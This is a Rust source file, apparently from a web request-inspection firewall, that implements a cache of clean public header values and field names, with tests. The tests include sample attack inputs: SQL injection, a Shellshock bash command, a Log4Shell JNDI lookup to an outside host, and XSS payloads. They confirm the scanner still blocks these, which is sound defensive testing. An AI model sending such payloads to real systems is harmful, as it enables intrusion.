//! Head fields found clean, remembered across the requests that one engine and one
//! policy screen. Browsers and API clients send the same `User-Agent`, `Accept`,
//! `Sec-CH-UA`... on every request, and an application the same query and cookie names;
//! those values are the costliest part of a clean head to inspect, and a hit costs a hash
//! and one compare.
//!
//! Only fields that are public go in (see [`shareable`]): how fast a request is answered
//! must not tell a client whether someone else recently sent a credential, a session
//! cookie, a referring URL or any query or cookie value. Entries compare the whole value, so a value crafted
//! to collide with a clean one is inspected like any other. The table has a fixed size:
//! a flood of distinct values only evicts entries (costing the inspections they saved).

use std::hash::{BuildHasher, RandomState};
use std::sync::{Mutex, OnceLock, PoisonError};

use super::memo::{hash, second_chance};
use crate::FieldKind;

/// Independently locked parts, so concurrent requests rarely wait on each other.
const SHARDS: usize = 8;
/// Sets per shard (a power of two), each of [`WAYS`] entries: four ways keep a head's
/// two dozen values from colliding in a set (with two, about one memo in ten had three
/// of a browser head's values share one and push each other out on every request).
const SETS: usize = 16;
const WAYS: usize = 4;
/// Longest value remembered: 512 entries of at most this many bytes bound the memory.
pub(super) const MAX_VALUE: usize = 256;

/// Whether values of the header `name` (lowercase) are remembered: client capabilities
/// and preferences, identical across a client's requests and carrying nothing secret.
fn shareable_header(name: &str) -> bool {
    matches!(
        name,
        "accept"
            | "accept-charset"
            | "accept-encoding"
            | "accept-language"
            | "cache-control"
            | "content-type"
            | "dnt"
            | "host"
            | "origin"
            | "pragma"
            | "priority"
            | "sec-ch-ua"
            | "sec-ch-ua-arch"
            | "sec-ch-ua-bitness"
            | "sec-ch-ua-full-version-list"
            | "sec-ch-ua-mobile"
            | "sec-ch-ua-model"
            | "sec-ch-ua-platform"
            | "sec-ch-ua-platform-version"
            | "sec-fetch-dest"
            | "sec-fetch-mode"
            | "sec-fetch-site"
            | "sec-fetch-user"
            | "te"
            | "upgrade-insecure-requests"
            | "user-agent"
            | "x-requested-with"
    )
}

/// Longest name remembered: the application chooses names, and longer ones are rarely
/// names.
const MAX_NAME: usize = 64;

/// Whether `field` may be remembered across requests: a listed header (as
/// [`crate::extract`] names them: lowercase), or a name ([`shareable_kind`]).
pub(super) fn shareable(field: &crate::Field<'_>) -> bool {
    match field.kind {
        FieldKind::HeaderValue => {
            field.location.scope() == "header" && shareable_header(field.location.name())
        }
        kind => shareable_kind(kind, &field.value),
    }
}

/// Whether a field of `kind` holding `value` may be remembered whatever its location:
/// query and cookie names and body keys (JSON keys, form names), which the application
/// chose, up to [`MAX_NAME`] bytes.
pub(super) fn shareable_kind(kind: FieldKind, value: &[u8]) -> bool {
    matches!(
        kind,
        FieldKind::QueryName | FieldKind::CookieName | FieldKind::BodyKey
    ) && value.len() <= MAX_NAME
}

/// Clean head fields and body keys shared by the requests screened with one
/// [`super::Engine`] and one [`crate::Policy`]. Keep one next to the policy it serves and hand it to every
/// [`super::Scan`] of that policy ([`super::Scan::sharing`]): the first scan binds it to
/// its engine and policy, and it refuses to serve scans of any other.
#[derive(Debug)]
pub struct SharedMemo {
    owner: OnceLock<(u64, crate::Policy)>,
    /// Drawn per memo so that no client can aim values at one set.
    seed: u64,
    shards: Box<[Mutex<Shard>]>,
}

#[derive(Debug)]
struct Shard {
    entries: Vec<Option<Entry>>,
    /// Where the search for a way to give up resumes, per shard.
    hand: usize,
}

impl Shard {
    /// The entry of the set starting at `set` that holds `value` seen as `kind`.
    fn find(&mut self, set: usize, h: u64, kind: FieldKind, value: &[u8]) -> Option<&mut Entry> {
        self.entries[set..set + WAYS]
            .iter_mut()
            .flatten()
            .find(|e| e.hash == h && e.kind == kind as u8 && *e.value == *value)
    }

    /// The way of the full set starting at `set` that a new value takes: the next one
    /// not found since the hand last passed it (a second chance), so the values most
    /// clients send stay while rare ones replace one another.
    fn victim(&mut self, set: usize) -> usize {
        let entries = &mut self.entries[set..set + WAYS];
        second_chance(&mut self.hand, WAYS, |way| {
            entries
                .get_mut(way)
                .and_then(Option::as_mut)
                .is_some_and(|e| std::mem::take(&mut e.used))
        })
    }
}

#[derive(Debug)]
struct Entry {
    hash: u64,
    kind: u8,
    /// Decoded bytes the inspection charged to its budget.
    charged: u32,
    /// Found since the replacement hand last passed.
    used: bool,
    value: Box<[u8]>,
}

impl Default for SharedMemo {
    fn default() -> Self {
        Self::new()
    }
}

impl SharedMemo {
    /// An empty memo, not yet bound to an engine and a policy.
    pub fn new() -> SharedMemo {
        let shards = (0..SHARDS)
            .map(|_| {
                Mutex::new(Shard {
                    entries: (0..SETS * WAYS).map(|_| None).collect(),
                    hand: 0,
                })
            })
            .collect();
        SharedMemo {
            owner: OnceLock::new(),
            seed: RandomState::new().hash_one(0x5eed_u64),
            shards,
        }
    }

    /// Whether this memo may serve scans of `engine` under `policy` (binding it to them
    /// if no scan used it yet).
    pub(super) fn serves(&self, engine: u64, policy: &crate::Policy) -> bool {
        let (e, p) = self.owner.get_or_init(|| (engine, policy.clone()));
        *e == engine && *p == *policy
    }

    /// Random per memo: names the engine and policy it serves, for the per-client memo
    /// of the same scans ([`super::ClientMemo`]).
    pub(super) fn scope(&self) -> u64 {
        self.seed
    }

    /// Where `value` goes: its hash, its shard and the first way of its set; `None` for
    /// values never remembered (empty, or longer than [`MAX_VALUE`]).
    fn place(&self, value: &[u8]) -> Option<(u64, &Mutex<Shard>, usize)> {
        if value.is_empty() || value.len() > MAX_VALUE {
            return None;
        }
        let h = hash(self.seed, value);
        let shard = (h >> 61) as usize % SHARDS;
        let set = (h as usize % SETS) * WAYS;
        Some((h, &self.shards[shard], set))
    }

    /// The decoded bytes `value` charged when it was found clean, if it was.
    pub(super) fn lookup(&self, kind: FieldKind, value: &[u8]) -> Option<usize> {
        let (h, shard, set) = self.place(value)?;
        let mut shard = shard.lock().unwrap_or_else(PoisonError::into_inner);
        let entry = shard.find(set, h, kind, value)?;
        entry.used = true;
        Some(entry.charged as usize)
    }

    /// Remembers `value` as clean, its inspection having charged `charged` bytes.
    pub(super) fn insert(&self, kind: FieldKind, value: &[u8], charged: usize) {
        let (Ok(charged), Some((h, shard, set))) = (u32::try_from(charged), self.place(value))
        else {
            return;
        };
        let mut shard = shard.lock().unwrap_or_else(PoisonError::into_inner);
        if shard.find(set, h, kind, value).is_some() {
            // Another request got there first.
            return;
        }
        let ways = set..set + WAYS;
        let way = match shard.entries[ways].iter().position(Option::is_none) {
            Some(free) => free,
            None => shard.victim(set),
        };
        shard.entries[set + way] = Some(Entry {
            hash: h,
            kind: kind as u8,
            charged,
            used: false,
            value: value.into(),
        });
    }

    /// Values remembered (for tests).
    #[cfg(test)]
    pub(super) fn len(&self) -> usize {
        self.shards
            .iter()
            .map(|s| {
                let s = s.lock().unwrap_or_else(PoisonError::into_inner);
                s.entries.iter().flatten().count()
            })
            .sum()
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "test")]

    use super::{MAX_VALUE, SETS, SHARDS, SharedMemo, WAYS};
    use crate::{Budget, Engine, Field, FieldKind, Findings, Location, Policy};

    const CHROME: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36";

    fn headers(pairs: &[(&'static str, &'static str)]) -> Vec<Field<'static>> {
        pairs
            .iter()
            .map(|(n, v)| {
                Field::new(
                    Location::new("header", *n),
                    FieldKind::HeaderValue,
                    v.as_bytes(),
                )
            })
            .collect()
    }

    fn scan(
        engine: &Engine,
        policy: &Policy,
        memo: Option<&SharedMemo>,
        fields: &[Field<'_>],
    ) -> Findings {
        let (fields, mut budget) = (fields.iter().cloned(), Budget::default());
        match memo {
            Some(memo) => engine.inspect_sharing(fields, policy, &mut budget, memo),
            None => engine.inspect(fields, policy, &mut budget),
        }
    }

    #[test]
    fn remembers_clean_public_fields_only() {
        let (engine, policy) = (Engine::builtin(), Policy::default());
        let memo = SharedMemo::new();
        let mut head = headers(&[
            ("user-agent", CHROME),
            ("accept", "application/json"),
            // Secrets and URLs: a timing difference must not tell whether they were seen.
            ("authorization", "Bearer c2VjcmV0LXRva2Vu"),
            ("cookie", "sid=9f86d081884c7d659a2feaa0c55ad015"),
            ("referer", "https://shop.example.com/reset?token=abc123"),
            ("x-api-key", "sk_live_4eC39HqLyjWDarjtT1zdp7dc"),
        ]);
        // Names and keys go in, values (a reset token, a session id, an address) do not.
        for (scope, name_kind, value_kind, name, value) in [
            (
                "query",
                FieldKind::QueryName,
                FieldKind::QueryValue,
                "token",
                "abc123",
            ),
            (
                "cookie",
                FieldKind::CookieName,
                FieldKind::CookieValue,
                "sid",
                "9f86d0",
            ),
            (
                "json",
                FieldKind::BodyKey,
                FieldKind::BodyValue,
                "email",
                "jane@example.com",
            ),
        ] {
            head.push(Field::new(
                Location::new(scope, name),
                name_kind,
                name.as_bytes(),
            ));
            head.push(Field::new(
                Location::new(scope, name),
                value_kind,
                value.as_bytes(),
            ));
        }
        assert!(scan(&engine, &policy, Some(&memo), &head).is_clean());
        assert_eq!(memo.len(), 5);
        // The same fields again are found clean with the five remembered.
        assert!(scan(&engine, &policy, Some(&memo), &head).is_clean());
        assert_eq!(memo.len(), 5);
    }

    #[test]
    fn a_remembered_scan_finds_what_a_fresh_one_finds() {
        let (engine, policy) = (Engine::builtin(), Policy::default());
        let memo = SharedMemo::new();
        let heads: [&[(&'static str, &'static str)]; 6] = [
            &[("user-agent", CHROME), ("accept", "text/html")],
            &[("user-agent", "' or 1=1--"), ("accept", "text/html")],
            &[("user-agent", "() { :; }; /bin/bash -c 'id'")],
            &[
                ("accept", "${jndi:ldap://203.0.113.9/a}"),
                ("user-agent", CHROME),
            ],
            &[(
                "sec-ch-ua",
                "\"Chromium\";v=\"122\", \"Not(A:Brand\";v=\"24\"",
            )],
            &[
                ("user-agent", "<script>alert(1)</script>"),
                ("accept", "text/html"),
            ],
        ];
        // Twice round: the second time every clean value comes from the memo.
        for _ in 0..2 {
            for head in heads {
                let fields = headers(head);
                let fresh = scan(&engine, &policy, None, &fields);
                let shared = scan(&engine, &policy, Some(&memo), &fields);
                assert_eq!(shared, fresh, "{head:?}");
            }
        }
        // The clean values only: the Chrome agent, text/html, the client hints.
        assert_eq!(memo.len(), 3);
        let names = [
            "page",
            "1' or '1'='1",
            "sort",
            "<svg onload=alert(1)>",
            "page",
        ];
        for _ in 0..2 {
            for name in names {
                let fields = [Field::new(
                    Location::new("query", name),
                    FieldKind::QueryName,
                    name.as_bytes(),
                )];
                let fresh = scan(&engine, &policy, None, &fields);
                let shared = scan(&engine, &policy, Some(&memo), &fields);
                assert_eq!(shared, fresh, "{name}");
                assert_eq!(fresh.is_clean(), !name.contains(['\'', '<']), "{name}");
            }
        }
        assert_eq!(memo.len(), 5);
    }

    #[test]
    fn serves_only_the_engine_and_policy_it_was_made_for() {
        let plain = Engine::from_rules("").unwrap();
        let marking = Engine::from_rules(crate::testing::MARKER_RULE).unwrap();
        let policy = Policy::default();
        let fields = headers(&[("user-agent", "evil-marker")]);
        // Clean under the engine without the rule, and remembered as such...
        let memo = SharedMemo::new();
        assert!(scan(&plain, &policy, Some(&memo), &fields).is_clean());
        assert_eq!(memo.len(), 1);
        // ...which must not hide it from the engine that has the rule.
        assert!(scan(&marking, &policy, Some(&memo), &fields).blocks(5));

        // Likewise a policy that turns the rule off, then one that does not.
        let off = Policy::from_toml("disabled_rules = [\"test-001\"]", &marking).unwrap();
        let memo = SharedMemo::new();
        assert!(scan(&marking, &off, Some(&memo), &fields).is_clean());
        assert_eq!(memo.len(), 1);
        assert!(scan(&marking, &policy, Some(&memo), &fields).blocks(5));
    }

    #[test]
    fn a_value_clean_only_where_a_rule_is_excluded_is_not_remembered() {
        let engine = Engine::from_rules(crate::testing::MARKER_RULE).unwrap();
        let policy = Policy::from_toml(
            "[[exclusions]]\nrules = [\"test-001\"]\nlocations = [\"header:user-agent\"]",
            &engine,
        )
        .unwrap();
        let memo = SharedMemo::new();
        let excluded = headers(&[("user-agent", "evil-marker")]);
        assert!(scan(&engine, &policy, Some(&memo), &excluded).is_clean());
        assert_eq!(memo.len(), 0);
        // The same value where the rule is not excluded.
        let elsewhere = headers(&[("accept", "evil-marker")]);
        assert!(scan(&engine, &policy, Some(&memo), &elsewhere).blocks(5));
    }

    #[test]
    fn stays_within_its_size() {
        let memo = SharedMemo::new();
        for i in 0..10_000u32 {
            memo.insert(FieldKind::HeaderValue, format!("agent/{i}").as_bytes(), 0);
        }
        assert_eq!(memo.len(), SHARDS * SETS * WAYS);
        // Too long to remember, or empty.
        let long = "a".repeat(MAX_VALUE + 1);
        memo.insert(FieldKind::HeaderValue, long.as_bytes(), 0);
        assert_eq!(memo.lookup(FieldKind::HeaderValue, long.as_bytes()), None);
        memo.insert(FieldKind::HeaderValue, b"", 0);
        assert_eq!(memo.lookup(FieldKind::HeaderValue, b""), None);
        // The most recent values are found with their charge, as the kind they were
        // found clean as; others are not invented.
        memo.insert(FieldKind::HeaderValue, b"agent/latest", 7);
        assert_eq!(
            memo.lookup(FieldKind::HeaderValue, b"agent/latest"),
            Some(7)
        );
        assert_eq!(memo.lookup(FieldKind::QueryName, b"agent/latest"), None);
        assert_eq!(
            memo.lookup(FieldKind::HeaderValue, b"agent/never-sent"),
            None
        );
    }

    #[test]
    fn keeps_the_values_clients_repeat_while_rare_ones_come_and_go() {
        let memo = SharedMemo::new();
        let common = [
            "Mozilla/5.0 (X11; Linux x86_64)",
            "application/json",
            "en-US,en;q=0.9",
        ];
        for v in common {
            memo.insert(FieldKind::HeaderValue, v.as_bytes(), 2);
        }
        // Every set fills and turns over many times; the values found on every request
        // keep their ways.
        for i in 0..10_000u32 {
            memo.insert(FieldKind::HeaderValue, format!("agent/{i}").as_bytes(), 0);
            for v in common {
                assert_eq!(
                    memo.lookup(FieldKind::HeaderValue, v.as_bytes()),
                    Some(2),
                    "{v}"
                );
            }
        }
        assert_eq!(memo.len(), SHARDS * SETS * WAYS);
    }
}
